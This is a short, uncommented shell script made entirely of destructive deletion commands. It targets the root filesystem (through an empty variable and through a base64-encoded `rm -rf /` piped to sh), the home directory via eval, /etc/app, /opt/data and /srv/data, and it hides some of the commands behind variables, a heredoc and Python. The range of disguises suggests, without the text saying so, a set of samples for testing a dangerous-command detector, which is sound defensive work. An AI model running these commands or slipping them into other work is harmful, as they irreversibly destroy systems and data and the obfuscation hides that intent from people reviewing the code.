#!/bin/sh
DIR=""
rm -rf "$DIR/"
CMD="rm -rf"
$CMD /etc/app
eval "rm -rf $HOME"
cd "$RELEASE"
rm -rf *
cat <<'EOF' | bash
rm -rf /opt/data
EOF
echo cm0gLXJmIC8= | base64 -d | sh
python3 -c "import shutil; shutil.rmtree('/srv/data')"
